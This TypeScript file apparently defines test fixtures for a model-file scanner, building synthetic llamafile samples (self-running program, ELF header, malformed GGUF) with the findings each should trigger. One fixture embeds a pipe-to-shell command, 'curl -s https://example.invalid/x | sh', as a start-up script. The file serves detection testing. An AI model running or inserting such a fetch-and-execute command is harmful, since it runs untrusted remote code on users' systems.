import { writeGguf } from '../builders/gguf.ts';
import { llamafile } from '../builders/llamafile.ts';
import type { FileTechnique } from './file-technique.ts';

function technique(
  id: string,
  title: string,
  build: () => Uint8Array,
  ...expect: readonly string[]
): FileTechnique {
  return {
    id: `llamafile-${id}`,
    title: `llamafile: ${title}`,
    file: 'model.llamafile',
    build,
    expect,
  };
}

export const LLAMAFILE_TECHNIQUES: readonly FileTechnique[] = [
  technique(
    'program',
    'a model that is a program (B8)',
    () => llamafile(),
    'program-model/self-running-model',
  ),
  technique(
    'elf',
    'the same as an ELF program',
    () => llamafile({ magic: '\u007fELF\n' }),
    'program-model/self-running-model',
  ),
  technique(
    'script',
    'a download in the start-up script',
    () => llamafile({ script: 'curl -s https://example.invalid/x | sh\n' }),
    'program-model/script-command',
  ),
  technique(
    'model',
    'a broken model behind the program',
    () => llamafile({ model: writeGguf({ tensorCount: 2n ** 62n, tensors: [] }) }),
    'gguf-structure/length-beyond-file',
  ),
];
